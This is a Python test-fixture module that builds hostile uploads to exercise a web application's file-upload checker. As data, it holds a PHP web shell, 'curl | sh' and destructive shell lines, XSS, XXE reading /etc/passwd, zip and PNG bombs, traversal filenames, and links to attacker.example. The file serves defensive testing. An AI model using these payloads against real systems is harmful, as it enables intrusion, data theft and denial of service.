"""Tệp tải lên độc hại — a corpus of hostile uploads, generated in code (no binary blob is
committed), for the checker in ``xaso.core.uploads`` and every endpoint that uses it.

Each case is a (name, bytes) pair a person could send, and what must happen to it:

- ``reject``: ``inspect`` raises ``UploadRejected`` and its Vietnamese message contains
  ``reason``; an endpoint stores no row and no file.
- ``neutralise``: the file is accepted, but what is stored is harmless — re-encoded
  image or plain PDF, a sanitised name, none of the ``forbidden`` byte strings, a type
  decided from the content (``content_type``).

Every neutralised case is a PDF or an image, so the same corpus holds for evidence (all
kinds) and for residents' photos (PDF and images only).
"""

from __future__ import annotations

import io
import re
import struct
import unicodedata
import warnings
import zipfile
import zlib
from dataclasses import dataclass, field

PDF_CT, JPEG_CT, PNG_CT = "application/pdf", "image/jpeg", "image/png"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>window.__xss=1</script>"
# Phrases of the Vietnamese refusals (xaso.core.uploads), as the tests look for them.
NOT_ACCEPTED = "không phải"
PATH = "đường dẫn"
PDF_ACTIVE = "thành phần chạy được"
MACRO = "macro"
BOMB = "bom"
BROKEN = "hỏng"
EMBEDDED = "nhúng"


@dataclass(frozen=True)
class Hostile:
    key: str
    name: str
    data: bytes
    expect: str  # "reject" or "neutralise"
    reason: str = ""  # reject: a phrase of the message
    content_type: str = ""  # neutralise: the type that must be stored
    forbidden: tuple[bytes, ...] = ()  # neutralise: byte strings the stored file lacks
    note: str = ""
    extra: dict[str, str] = field(default_factory=dict)


# --- builders ---------------------------------------------------------------------------


def pdf(*objects: bytes, trailer: bytes = b"trailer<</Root 1 0 R>>\n%%EOF\n") -> bytes:
    """A small PDF: a catalogue, an empty page tree and whatever objects are given."""
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    body += b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    for i, obj in enumerate(objects, start=3):
        body += str(i).encode() + b" 0 obj" + obj + b"endobj\n"
    return body + trailer


def pdf_with_catalog(extra: bytes) -> bytes:
    """A PDF whose catalogue itself carries ``extra`` (an /OpenAction, /AA, /Names…)."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R" + extra + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def flate_stream(content: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(content)
    return (
        b"<</Length " + str(len(packed)).encode() + b"/Filter/FlateDecode" + extra + b">>stream\n"
        + packed + b"\nendstream\n"
    )  # fmt: skip


def jpeg(size: tuple[int, int] = (64, 48), **save: object) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, "JPEG", **save)  # type: ignore[arg-type]
    return out.getvalue()


def png(size: tuple[int, int] = (64, 48), **save: object) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGBA", size, (30, 200, 30, 255)).save(out, "PNG", **save)  # type: ignore[arg-type]
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data)) + kind + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )  # fmt: skip


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A real decompression bomb: a 1-bit greyscale PNG of width × height pixels whose
    zeros compress to a few dozen kilobytes."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row * 500) for _ in range(height // 500))
    idat += packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


def png_with_text(key: bytes, text: bytes) -> bytes:
    raw = png()
    end = raw.rindex(b"IEND") - 4
    return raw[:end] + _chunk(b"tEXt", key + b"\x00" + text) + raw[end:]


def zip_of(entries: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return out.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>'
)


def xlsx(parts: dict[str, bytes] | None = None) -> bytes:
    """A minimal workbook (the parts the checker looks at), plus ``parts``."""
    return zip_of({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": WORKBOOK,
                   **(parts or {})})  # fmt: skip


def duplicate_entry_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name": the point of the file
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("xl/workbook.xml", WORKBOOK)
        z.writestr("xl/workbook.xml", b"<x>" + SCRIPT + b"</x>")
    return out.getvalue()


SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1">'
    b"<script>window.__xss=1</script></svg>"
)
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&x;</workbook>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]><Types>&lol9;</Types>"
)
EXTERNAL_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/externalLinkPath" '
    b'Target="file:///\\\\attacker.example\\share\\book.xlsx" TargetMode="External"/>'
    b"</Relationships>"
)
REMOTE_TEMPLATE_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>'
)
DOCX_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def corpus(limit: int) -> list[Hostile]:
    """The hostile corpus; ``limit`` is the size limit of the endpoint it is pushed
    through (the oversize case is one byte over it)."""
    good_pdf = pdf()
    j, p = jpeg(), png()
    r, n = "reject", "neutralise"
    cases = [
        # --- disguised HTML / SVG / XML ----------------------------------------------
        Hostile("html-as-pdf", "quyet-dinh.pdf", HTML, r, NOT_ACCEPTED),
        Hostile("html-as-jpg", "anh.jpg", HTML, r, NOT_ACCEPTED),
        Hostile("html-bom-upper", "trang.pdf", b"\xef\xbb\xbf  <HTML><SCRIPT>x</SCRIPT>", r,
                NOT_ACCEPTED),
        Hostile("xhtml-as-png", "anh.png",
                b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
                + SCRIPT + b"</html>", r, NOT_ACCEPTED),
        Hostile("svg", "anh.svg", SVG, r, "SVG"),
        Hostile("svg-as-png", "logo.png", SVG, r, "SVG"),
        Hostile("svg-as-jpg", "logo.jpg", b'<?xml version="1.0"?>\n' + SVG, r, "SVG"),
        Hostile("svg-as-pdf", "van-ban.pdf", SVG, r, "SVG"),
        Hostile("xml-as-xlsx", "bang.xlsx", XXE, r, NOT_ACCEPTED),
        Hostile("json-as-pdf", "du-lieu.pdf", b'{"a": "<script>alert(1)</script>"}', r,
                NOT_ACCEPTED),
        # --- polyglots ---------------------------------------------------------------
        Hostile("pdf-html-polyglot", "to-trinh.pdf", pdf(b"<<>>").replace(
            b"trailer", HTML + b"\ntrailer"), r, "HTML"),
        Hostile("gif-js-polyglot", "anh.gif", b"GIF89a/*\x00\x00\x00\x00*/=1;window.__xss=1;//",
                r, NOT_ACCEPTED),
        Hostile("gif-js-as-jpg", "anh.jpg", b"GIF89a/*\x00\x00*/=1;alert(1)//;", r,
                NOT_ACCEPTED),
        Hostile("jpeg-html-appended", "anh.jpg", j + HTML, n, content_type=JPEG_CT,
                forbidden=(b"<script", b"<html")),
        Hostile("jpeg-zip-appended", "anh.jpg", j + zip_of({"a.js": b"alert(1)"}), n,
                content_type=JPEG_CT, forbidden=(b"PK\x03\x04", b"alert(1)")),
        Hostile("png-script-text-chunk", "anh.png", png_with_text(b"Comment", SCRIPT), n,
                content_type=PNG_CT, forbidden=(b"<script", b"tEXt")),
        Hostile("png-php-appended", "anh.png", p + b"<?php system($_GET['c']); ?>", n,
                content_type=PNG_CT, forbidden=(b"<?php",)),
        Hostile("jpeg-exif-script-gps", "anh.jpg", _jpeg_with_exif(), n, content_type=JPEG_CT,
                forbidden=(b"<script", b"Exif", b"0912 345 678")),
        Hostile("jpeg-eicar-appended", "anh.jpg", j + EICAR, r, "EICAR"),
        # --- executables and scripts -------------------------------------------------
        Hostile("elf-as-pdf", "bao-cao.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 120, r,
                NOT_ACCEPTED),
        Hostile("pe-as-jpg", "anh.jpg", b"MZ\x90\x00\x03" + b"\x00" * 58 + b"PE\x00\x00", r,
                NOT_ACCEPTED),
        Hostile("shell-as-pdf", "quyet-dinh.pdf", b"#!/bin/sh\ncurl http://x | sh\n", r,
                NOT_ACCEPTED),
        Hostile("php-as-jpg", "anh.jpg", b"<?php system($_GET['c']); ?>", r, NOT_ACCEPTED),
        Hostile("bat-as-pdf", "van-ban.pdf", b"@echo off\r\nformat c: /q\r\n", r, NOT_ACCEPTED),
        Hostile("java-class-as-docx", "tai-lieu.docx", b"\xca\xfe\xba\xbe\x00\x00\x00\x34", r,
                NOT_ACCEPTED),
        Hostile("jar-as-docx", "tai-lieu.docx",
                zip_of({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": b"\xca\xfe"}), r,
                "ZIP"),
        Hostile("eicar-as-pdf", "eicar.pdf", EICAR, r, "EICAR"),
        Hostile("eicar-in-pdf", "an-toan.pdf", pdf(b"<<>>").replace(b"trailer", b"%" + EICAR
                + b"\ntrailer"), r, "EICAR"),
        # --- names (over-long ones stay under the 1 KB a multipart header may take) ------
        Hostile("double-ext-exe", "quyet-dinh.pdf.exe", good_pdf, n, content_type=PDF_CT,
                extra={"name_suffix": ".pdf", "name_lacks": ".exe"}),
        Hostile("double-ext-php", "anh.php.jpg", j, n, content_type=JPEG_CT,
                extra={"name_suffix": ".jpg", "name_lacks": ".php"}),
        Hostile("double-ext-phtml", "shell.phtml.png", p, n, content_type=PNG_CT,
                extra={"name_suffix": ".png", "name_lacks": ".phtml"}),
        Hostile("traversal-unix", "../../etc/passwd", good_pdf, r, PATH),
        Hostile("traversal-windows", "..\\..\\windows\\win.ini", good_pdf, r, PATH),
        Hostile("traversal-dotdot", "..", good_pdf, r, PATH),
        Hostile("absolute-path", "/etc/cron.d/evil.pdf", good_pdf, r, PATH),
        Hostile("drive-path", "C:\\boot.pdf", good_pdf, r, PATH),
        Hostile("null-byte", "anh.php\x00.jpg", j, r, PATH),
        Hostile("percent-null", "anh.php%00.jpg", j, r, PATH),
        Hostile("percent-traversal", "..%2f..%2fetc%2fpasswd.pdf", good_pdf, r, PATH),
        Hostile("fullwidth-slash", "..／..／etc／passwd.pdf", good_pdf, r, PATH),
        Hostile("rtl-override", "hoa-don\u202egpj.exe", j, n, content_type=JPEG_CT,
                extra={"name_lacks": "\u202e", "name_suffix": ".jpg"}),
        Hostile("zero-width", "qu\u200byet\u200d-dinh\ufeff.pdf", good_pdf, n,
                content_type=PDF_CT, extra={"name_lacks": "\u200b"}),
        Hostile("crlf-header-injection", "a\r\nX-Injected: 1\r\n\r\n<b>.pdf",
                good_pdf, n, content_type=PDF_CT, extra={"name_lacks": "\n"}),
        Hostile("quotes-in-name", 'a";filename="x.html.pdf', good_pdf, n, content_type=PDF_CT,
                extra={"name_lacks": '"', "name_suffix": ".pdf"}),
        Hostile("over-long-name", "a" * 796 + ".pdf", good_pdf, n, content_type=PDF_CT,
                extra={"name_suffix": ".pdf"}),
        Hostile("over-long-vietnamese", "Quyết định " * 40 + ".jpg", j, n, content_type=JPEG_CT,
                extra={"name_suffix": ".jpg"}),
        Hostile("name-of-dots", " . . . ", good_pdf, r, "tên"),
        Hostile("empty-name", "", good_pdf, r, "tên"),
        # --- empty and oversize ------------------------------------------------------
        Hostile("zero-bytes-pdf", "rong.pdf", b"", r, "0 byte"),
        Hostile("zero-bytes-jpg", "rong.jpg", b"", r, "0 byte"),
        Hostile("oversize", "qua-lon.pdf", good_pdf.replace(b"trailer", b"%" + b"x" * limit
                + b"\ntrailer"), r, "vượt giới hạn"),
        # --- archives and office files -----------------------------------------------
        Hostile("zip-bomb-xlsx", "so-lieu.xlsx", xlsx({"xl/data.xml": b"\x00" * 60_000_000}), r,
                BOMB),
        Hostile("ratio-bomb-docx", "bao-cao.docx", zip_of({"[Content_Types].xml": DOCX_TYPES,
                "word/document.xml": b" " * 5_000_000}), r, BOMB),
        Hostile("nested-zip-bomb", "so-lieu.xlsx", xlsx({"xl/embeddings/bom.zip": zip_of(
                {"bom.bin": b"\x00" * 1_000_000}, method=zipfile.ZIP_STORED)}), r, BOMB),
        Hostile("nested-zip", "so-lieu.xlsx", xlsx({"xl/media/anh.zip": zip_of(
                {"run.js": b"alert(1)"})}), r, EMBEDDED),
        Hostile("too-many-entries", "nhieu.xlsx", xlsx({f"xl/p{i}.xml": b"<a/>"
                for i in range(5_001)}), r, "quá nhiều"),
        Hostile("xlsm-renamed", "bang-tinh.xlsx", xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
                r, MACRO),
        Hostile("macro-content-type", "bang-tinh.xlsx", zip_of({"[Content_Types].xml":
                CONTENT_TYPES.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml"),
                "xl/workbook.xml": WORKBOOK}), r, MACRO),
        Hostile("docm-renamed", "van-ban.docx", zip_of({"[Content_Types].xml": DOCX_TYPES,
                "word/document.xml": b"<w:document/>", "word/vbaProject.bin": b"\xd0\xcf"}), r,
                MACRO),
        Hostile("xlsx-external-link", "lien-ket.xlsx", xlsx({
                "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
                "xl/externalLinks/_rels/externalLink1.xml.rels": EXTERNAL_RELS}), r,
                "liên kết ngoài"),
        Hostile("docx-remote-template", "mau.docx", zip_of({"[Content_Types].xml": DOCX_TYPES,
                "word/document.xml": b"<w:document/>",
                "word/_rels/settings.xml.rels": REMOTE_TEMPLATE_RELS}), r, "liên kết ngoài"),
        Hostile("xlsx-ole-embedding", "nhung.xlsx", xlsx({
                "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"MZ"}), r, EMBEDDED),
        Hostile("xlsx-activex", "activex.xlsx", xlsx({"xl/activeX/activeX1.xml": b"<ax/>"}), r,
                EMBEDDED),
        Hostile("xlsx-xxe", "xxe.xlsx", zip_of({"[Content_Types].xml": CONTENT_TYPES,
                "xl/workbook.xml": XXE}), r, "DTD"),
        Hostile("xlsx-billion-laughs", "laughs.xlsx", zip_of({"[Content_Types].xml": LAUGHS,
                "xl/workbook.xml": WORKBOOK}), r, "DTD"),
        Hostile("zip-traversal-entry", "bang.xlsx", xlsx({"../../evil.sh": b"rm -rf /"}), r,
                PATH),
        Hostile("zip-absolute-entry", "bang.xlsx", zip_of({"[Content_Types].xml": CONTENT_TYPES,
                "xl/workbook.xml": WORKBOOK, "/etc/cron.d/x": b"* * * * * root sh"}), r, PATH),
        Hostile("zip-duplicate-entries", "bang.xlsx", duplicate_entry_zip(), r, "trùng tên"),
        Hostile("plain-zip-as-docx", "tep.docx", zip_of({"a.txt": b"hello"}), r, "ZIP"),
        Hostile("corrupt-zip", "hong.xlsx", b"PK\x03\x04" + b"\x14\x00" + b"\xff" * 200, r,
                BROKEN),
        Hostile("ole-doc-as-docx", "cu.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
                r, NOT_ACCEPTED),
        Hostile("rtf-as-docx", "van-ban.docx", b"{\\rtf1\\ansi{\\object\\objemb}}", r,
                NOT_ACCEPTED),
        Hostile("csv-formula-as-xlsx", "danh-sach.xlsx", b'=HYPERLINK("http://x","a"),+1\n', r,
                NOT_ACCEPTED),
        # --- images ------------------------------------------------------------------
        Hostile("png-decompression-bomb", "bom.png", png_bomb(), r, BOMB),
        Hostile("png-too-many-pixels", "lon.png", png_bomb(8_000, 8_000), r, "quá lớn"),
        Hostile("jpeg-truncated", "cat.jpg", j[: len(j) // 3], r, BROKEN),
        Hostile("png-truncated", "cat.png", p[:60], r, BROKEN),
        Hostile("jpeg-garbage", "rac.jpg", b"\xff\xd8\xff\xe0" + b"\x13\x37" * 300, r, BROKEN),
        Hostile("webp-garbage", "rac.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 " + b"\x00" * 40, r,
                BROKEN),
        Hostile("tiff-as-jpg", "anh.jpg", b"II*\x00\x08\x00\x00\x00" + b"\x00" * 100, r,
                NOT_ACCEPTED),
        Hostile("bmp-as-png", "anh.png", b"BM" + b"\x00" * 100, r, NOT_ACCEPTED),
        # --- PDFs with active content ------------------------------------------------
        Hostile("pdf-javascript", "js.pdf", pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), r,
                PDF_ACTIVE),
        Hostile("pdf-openaction-js", "mo.pdf", pdf_with_catalog(
                b"/OpenAction<</S/JavaScript/JS(this.exportDataObject())>>"), r, PDF_ACTIVE),
        Hostile("pdf-openaction-uri", "mo-web.pdf", pdf_with_catalog(
                b"/OpenAction<</S/URI/URI(http://attacker.example/)>>"), r, PDF_ACTIVE),
        Hostile("pdf-launch", "chay.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), r, PDF_ACTIVE),
        Hostile("pdf-embedded-file", "kem.pdf", pdf(b"<</Type/EmbeddedFile>>"), r, PDF_ACTIVE),
        Hostile("pdf-additional-actions", "aa.pdf", pdf_with_catalog(
                b"/AA<</WC<</S/SubmitForm/F(http://x)>>>>"), r, PDF_ACTIVE),
        Hostile("pdf-xfa", "xfa.pdf", pdf_with_catalog(b"/AcroForm<</XFA 3 0 R>>"), r,
                PDF_ACTIVE),
        Hostile("pdf-richmedia", "flash.pdf", pdf(b"<</Type/RichMedia>>"), r, PDF_ACTIVE),
        Hostile("pdf-hex-escaped-name", "an.pdf", pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>"),
                r, PDF_ACTIVE),
        Hostile("pdf-js-in-object-stream", "nen.pdf", pdf(flate_stream(
                b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj", b"/Type/ObjStm/N 1/First 0")),
                r, PDF_ACTIVE),
        Hostile("pdf-truncated", "cut.pdf", good_pdf[:-20], r, BROKEN),
        Hostile("pdf-header-only", "gia.pdf", b"%PDF-1.7\n%%EOF\n", r, BROKEN),
        # --- type decided by content, not by name ------------------------------------
        Hostile("png-named-pdf", "bao-cao.pdf", p, n, content_type=PNG_CT,
                extra={"name_suffix": ".png"}),
        Hostile("pdf-named-jpg", "anh.jpg", good_pdf, n, content_type=PDF_CT,
                extra={"name_suffix": ".pdf"}),
        Hostile("jpeg-named-html", "trang.html", j, n, content_type=JPEG_CT,
                extra={"name_suffix": ".jpg", "name_lacks": ".html"}),
        Hostile("pdf-named-svg", "ve.svg", good_pdf, n, content_type=PDF_CT,
                extra={"name_suffix": ".pdf", "name_lacks": ".svg"}),
    ]  # fmt: skip
    keys = [c.key for c in cases]
    assert len(keys) == len(set(keys)), "duplicate keys in the hostile corpus"
    return cases


def _jpeg_with_exif() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010E] = "<script>window.__xss=1</script> nhà ông An, 0912 345 678"
    exif[0x8825] = {2: (12.0, 40.0, 0.0), 4: (108.0, 3.0, 0.0)}  # GPS
    return jpeg(exif=exif)


_RUNNABLE_INSIDE = re.compile(
    r"\.(php\d?|phtml|asp|aspx|jsp|cgi|exe|bat|cmd|sh|js|hta|html?|svg)\.", re.IGNORECASE
)
_EXTENSION = {PDF_CT: ".pdf", JPEG_CT: ".jpg", PNG_CT: ".png"}


def assert_neutralised(case: Hostile, name: str, content_type: str, data: bytes) -> None:
    """What was stored for an accepted hostile file is harmless: a PDF or a re-encoded
    image, typed by its content, named safely, without the hostile bytes."""
    assert content_type in _EXTENSION, (case.key, content_type)
    if case.content_type:
        assert content_type == case.content_type, (case.key, content_type)
    assert name.endswith(_EXTENSION[content_type]), (case.key, name)
    assert len(name) <= 160, (case.key, len(name))
    assert not any(unicodedata.category(ch)[0] == "C" for ch in name), (case.key, name)
    assert not any(ch in name for ch in '/\\"<>'), (case.key, name)
    assert not _RUNNABLE_INSIDE.search(name), (case.key, name)
    if "name_suffix" in case.extra:
        assert name.endswith(case.extra["name_suffix"]), (case.key, name)
    if "name_lacks" in case.extra:
        assert case.extra["name_lacks"] not in name, (case.key, name)
    for marker in case.forbidden:
        assert marker not in data, (case.key, marker)
    if content_type != PDF_CT:
        from PIL import Image

        with Image.open(io.BytesIO(data)) as image:  # re-encoded: pixels only, no metadata
            assert not image.getexif() and not image.info.get("exif"), case.key
            assert not {"comment", "Comment", "xmp", "icc_profile"} & set(image.info), case.key
